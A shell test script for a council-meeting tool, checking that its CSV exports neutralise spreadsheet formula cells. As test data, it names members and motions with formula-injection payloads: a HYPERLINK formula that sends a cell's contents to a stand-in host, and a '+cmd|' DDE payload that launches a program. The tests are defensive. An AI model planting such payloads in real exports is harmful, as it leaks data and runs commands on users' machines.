#!/bin/sh
# csv-formulas.sh - no CSV export writes a cell a spreadsheet would run as a formula, and the
# Excel style is what Danish Excel opens.
#
# Members, a party, a motion, an amendment, a reason and an election group are named
# =HYPERLINK(...), +cmd|..., -2+3, @SUM(...) and "<tab>=1". Every CSV export (votes,
# member-votes, attendance; RFC 4180 and Excel; and `protokol elect`) must write each such
# cell with a single quote in front, so no cell (after its opening quote, if any) starts with
# = + - @ or a tab. The Excel style must start with a UTF-8 byte order mark, separate by ';'
# and end every line with CRLF; the RFC 4180 style has no BOM and separates by ','.
#
# Usage: csv-formulas.sh PROTOKOL
set -u
bin=$1
tmp=$(mktemp -d)
trap 'rm -rf "$tmp"' EXIT
export PROTOKOL_NOW=2027-01-21T17:30:00
export LC_ALL=C
db=$tmp/test.db
tab=$(printf '\t')
cat >"$tmp/script.txt" <<S
body "Lolland Kommune" profile=lolland-2023 seats=5
member "=HYPERLINK(""http://x.example/?q=""&A1,""klik"")" party=A role=mayor
member "+cmd|' /C calc'!A0" party=A
member "-2+3" party=F
member "@SUM(A1:A9)" party=O
member "Lise Krog" party=C
meeting 2027-01-21 16:00
item "Lokalplan"
present "=HYPERLINK(""http://x.example/?q=""&A1,""klik"")" "+cmd|' /C calc'!A0" "-2+3" "@SUM(A1:A9)"
absent "Lise Krog" reason="-1+1 sygdom"
open
take 1
motion "=1+1 Lokalplanen vedtages"
amend "+2 etager" by="-2+3"
amend "${tab}=3 etager"
ballot
vote for=rest
ballot
vote for="-2+3" against=rest
ballot
vote for=rest
done
close
S
if ! grep -q 'HYPERLINK' "$tmp/script.txt"; then
	echo "csv-formulas: the script was not written" >&2
	exit 99
fi
# the script language may not take "" inside a name; fall back to a name without quotes
if ! "$bin" --db "$db" run "$tmp/script.txt" >"$tmp/run.txt" 2>&1; then
	sed -i 's/"=HYPERLINK(""http:\/\/x.example\/?q=""&A1,""klik"")"/"=HYPERLINK(A1)"/g' "$tmp/script.txt"
	rm -f "$db"
	if ! "$bin" --db "$db" run "$tmp/script.txt" >"$tmp/run.txt" 2>&1; then
		echo "csv-formulas: the script was not accepted whole:" >&2
		grep -v '^ok:' "$tmp/run.txt" >&2
		exit 99
	fi
fi
fails=0
fail() {
	echo "FAIL: $*" >&2
	fails=$((fails + 1))
}
for what in votes member-votes attendance; do
	for style in csv excel; do
		f=$tmp/$what.$style.csv
		if ! "$bin" --db "$db" export "$what" --meeting 1 --$style >"$f" 2>"$tmp/err"; then
			fail "export $what --$style: $(cat "$tmp/err")"
			continue
		fi
		sep=,
		[ $style = excel ] && sep=';'
		# split into cells (every cell is quoted by the writer) and look at each one's start
		if LC_ALL=C awk -v sep="$sep" '{
			sub(/^\357\273\277/, ""); sub(/\r$/, "")
			n = split($0, c, "\"" sep "\"")
			for (i = 1; i <= n; i++) {
				v = c[i]; sub(/^"/, "", v)
				if (v ~ /^[=+@\t-]/) { print "line " NR ": " v; bad = 1 }
			}
		} END { exit bad }' "$f" >"$tmp/bad"; then :; else
			fail "$what --$style has a formula cell: $(cat "$tmp/bad")"
		fi
		# and the neutralised cells are there (nothing was dropped)
		case $what in
		votes) want="'=1+1 Lokalplanen vedtages" ;;
		member-votes) want="'@SUM(A1:A9)" ;;
		attendance) want="'-1+1 sygdom" ;;
		esac
		grep -q -F -- "\"$want\"" "$f" || fail "$what --$style lacks the cell \"$want\""
		if [ $style = excel ]; then
			[ "$(head -c 3 "$f" | od -An -tx1 | tr -d ' ')" = efbbbf ] ||
				fail "$what --excel does not start with a UTF-8 byte order mark"
			if LC_ALL=C grep -q -v "$(printf '\r')\$" "$f"; then
				fail "$what --excel has a line not ended by CRLF"
			fi
			head -n 1 "$f" | grep -q '";"' || fail "$what --excel does not separate by ;"
		else
			[ "$(head -c 1 "$f")" = '"' ] || fail "$what --csv starts with a byte order mark"
			head -n 1 "$f" | grep -q '","' || fail "$what --csv does not separate by ,"
		fi
	done
done
grep -q -F '"'"'"'+2 etager"' "$tmp/votes.csv.csv" || fail "votes lacks the neutralised amendment"
grep -q -F "\"'$tab=3 etager\"" "$tmp/votes.csv.csv" || fail "votes lacks the neutralised tab cell"
# the Danish body's default is the Excel style
"$bin" --db "$db" export votes --meeting 1 >"$tmp/default.csv"
cmp -s "$tmp/default.csv" "$tmp/votes.excel.csv" || fail "export votes of a Danish body is not the Excel style"
# protokol elect writes CSV too
printf 'group,votes\n"=HYPERLINK(A1)",9\n"-2+3",4\n"@SUM(A1)",2\n' >"$tmp/groups.csv"
if "$bin" elect proportional --seats 3 "$tmp/groups.csv" >"$tmp/elect.csv" 2>"$tmp/err"; then
	if grep -E '^("?)[=+@-]' "$tmp/elect.csv"; then
		fail "protokol elect writes a formula cell"
	fi
	grep -q -F "'=HYPERLINK(A1)" "$tmp/elect.csv" || fail "protokol elect lacks the neutralised group"
else
	fail "protokol elect proportional: $(cat "$tmp/err")"
fi
"$bin" --db "$db" verify >"$tmp/verify.txt" 2>&1 || fail "the record does not verify: $(cat "$tmp/verify.txt")"
[ "$fails" = 0 ] || exit 1
echo "csv-formulas: every formula cell is neutralised in every CSV export"
